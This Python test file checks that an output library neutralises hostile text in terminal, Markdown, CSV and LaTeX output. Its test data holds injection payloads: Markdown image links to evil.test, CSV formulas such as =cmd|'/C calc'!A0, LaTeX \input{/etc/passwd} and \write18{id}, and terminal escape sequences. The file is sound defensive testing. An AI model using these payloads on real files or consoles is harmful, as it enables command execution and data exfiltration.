"""What models and files hold is text in a terminal, in Markdown, in LaTeX and in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from adaptkit.comparison.exports.latex import escape
from adaptkit.core.files import csv_text
from adaptkit.core.shown import as_markdown, as_markdown_table, visible
from adaptkit.core.types import Prediction
from adaptkit.decision.blocks import Bullets, Heading, Paragraph, TextTable
from adaptkit.decision.blocks import as_markdown as blocks_as_markdown
from adaptkit.decision.blocks_rich import as_rich

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
LOADED = [
    "![a](http://evil.test/a.png)", "![](//evil.test)", "![a][b]", "[b]: http://evil.test", "![b]", "[b]",
    "[b][]", "[a](javascript:alert(1))", "[a](http://evil.test 'x')", "<img src=http://evil.test/a>",
    "<http://evil.test>", "<a@evil.test>", "<script>x</script>", "<!-- x -->", "<?x?>", "<![CDATA[x]]>",
    "</td>", "<b", "&lt;img&gt;", "\\![a](http://evil.test)", "\\\\![a](http://evil.test)",
    "!\\[a](http://evil.test)", "`![a](http://evil.test)", "`` ` ``![a](http://evil.test)`",
    "![a`](http://evil.test)`", "![a\n](http://evil.test)", "[![a](b)](c)", "| ![a](b) |", "\\|![a](b)",
    "a|b\n|--|--|\n", "]: http://evil.test", "[a]:\nhttp://evil.test", "**![a](b)**", "http://evil.test/x",
    "https://evil.test", "www.evil.test", "x\x1b[31m", "# a\n- b\n1. c\n> d\n```\ne",
]  # fmt: skip


def assert_inert(text: str) -> None:
    html = MARKDOWN.render(text)
    assert not re.search(r"<(img|a|script|iframe|!--|\?)\b", html), html
    assert set(re.findall(r"</?([a-z0-9]+)", html)) <= {
        "p", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "em", "code",
        "h1", "h2", "h3", "s", "pre", "blockquote", "hr",
    }  # fmt: skip


def test_a_console_of_somebody_elses_is_sent_text_too() -> None:
    hostile, out = "a\x1b]0;owned\x07\x9b31m\u202eb", io.StringIO()
    table = TextTable(header=("x", hostile), rows=((hostile, "y"),))
    blocks: list[Any] = [Heading(text=hostile), Paragraph(text=hostile), Bullets(lines=(hostile,)), table]
    Console(file=out, width=200, color_system=None).print(
        as_rich(blocks), Prediction.failed(ValueError(hostile))
    )
    assert visible(out.getvalue()) == out.getvalue()


@pytest.mark.parametrize("text", LOADED)
def test_markdown_shows_it_and_loads_nothing(text: str) -> None:
    definition = "\n\n".join(
        f"- {as_markdown(t)}" for t in ("[b]: http://evil.test", "[a]: http://evil.test")
    )
    shown = as_markdown(text)
    assert "\n" not in shown
    assert "http://evil" not in shown
    assert "www.evil" not in shown
    table = as_markdown_table([["a", text], ["---", "---"], [text, "b"]])
    assert len(re.findall(r"<t[hd]>", MARKDOWN.render(table))) == 4
    for document in (shown, f"- {shown}", f"**{shown}**", f"# {shown}", table):
        assert_inert(f"{definition}\n\n{document}")
    assert_inert(
        blocks_as_markdown(
            [
                Heading(text=text),
                Paragraph(text=text),
                Bullets(lines=(text, text)),
                TextTable(header=("a", text), rows=((text, "b"),)),
            ]
        )
    )


@given(
    st.lists(st.sampled_from([*"![](:)<>|\\`/ab", "http://", "www.", "[b]", "\n"]), max_size=12).map("".join)
)
def test_no_mixture_of_marks_becomes_markup(text: str) -> None:
    assert_inert(
        f"[b]\n\n- {as_markdown('[b]: http://x')}\n- {as_markdown(text)}\n\n{as_markdown(text)} ![b]"
    )


def test_plain_words_and_figures_stay_as_they_are() -> None:
    for text in (
        "request_routing",
        "93.3 % [84.1, 97.4]",
        "a < b > c",
        "1 * 2",
        "x (y)",
        "`--seeds 3`",
        "a!",
    ):
        assert as_markdown(text) == text


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\ufeff=1", "\u00a0=1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "=HYPERLINK(\"http://evil.test\"&A1)", "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "--1", "-", "=", "-inf", "+x", "-1e", "-1 USD", "\tx", "-1\n=1",
    "\u200b=1", "\u2060=1", "\u00ad@x", "\u202e+x",
    "\x00=1", "\x1b=1", "\x7f=1", "\u180e=1", "\u034f=1", "\ufe0f=1", "\u3164=1", "\U000e0001=1", "\u061c@x",
    "\ufff9=1", "\ufe66=1", "\ufe62x", "\ufe63x", "\ufe6bx", "\u207c1", "\u3000\u200b=1",
]  # fmt: skip
TEXTS = [
    "a=1", "1+1", "x@y", "'=1", "", "-5", "+5", "-0.5", "-.5", "-1e-3", "-5%", " -5 ", "\u22125 points",
    "a\n=b",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_csv_is_text(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["name", text], [text, 1]]), newline="")))
    assert rows == [["name", f"'{text}"], [f"'{text}", "1"]]


@pytest.mark.parametrize(
    ("text", "shown"),
    [("a;=1", "a;'=1"), ("a; @x", "a; '@x"), ("5;-3", "5;-3"),
     ("a;\u200b\ufe661", "a;\u200b'\ufe661"), ("a;+cmd|' /C calc'!A0", "a;'+cmd|' /C calc'!A0"),
     ("a;-1+x", "a;'-1+x"),
     ("=1;=2", "'=1;'=2"), ("a;'=1", "a;'=1"), ("a; b", "a; b")],
)  # fmt: skip
def test_a_formula_behind_a_semicolon_is_text_where_those_part_columns(text: str, shown: str) -> None:
    assert list(csv.reader(io.StringIO(csv_text([["x", text]]), newline=""))) == [["x", shown]]


@pytest.mark.parametrize("text", TEXTS)
def test_numbers_and_other_texts_in_csv_stay_as_they_are(text: str) -> None:
    assert list(csv.reader(io.StringIO(csv_text([["x", text]]), newline=""))) == [["x", text]]
    assert csv_text([[-5, -0.5, None, True]]) == "-5,-0.5,,True\n"


@given(st.text())
def test_no_text_sends_a_control_character_or_begins_a_command_of_latex(text: str) -> None:
    shown = visible(text)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", shown)
    assert visible(shown) == shown
    shown.encode()
    known = (
        r"\\(textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar|ldots)\{\}|\\[&%$#_{}]"
    )
    left = re.sub(rf"{known}|\$(-|\\Delta|\\uparrow|\\downarrow|\\rightarrow|\\pm)\$", "", escape(text))
    assert not re.search(r"[\\&%$#_{}~^]", left)


@pytest.mark.parametrize(
    "text", [r"\input{/etc/passwd}", r"\write18{id}", r"^^5cinput{x}", "a\x1b%b", r"$\href{x}$"]
)
def test_latex_commands_are_set_as_text(text: str) -> None:
    shown = escape(text)
    assert "\\input" not in shown.replace("\\textbackslash{}input", "")
    assert "\\write" not in shown.replace("\\textbackslash{}write", "")
    assert "\x1b" not in shown
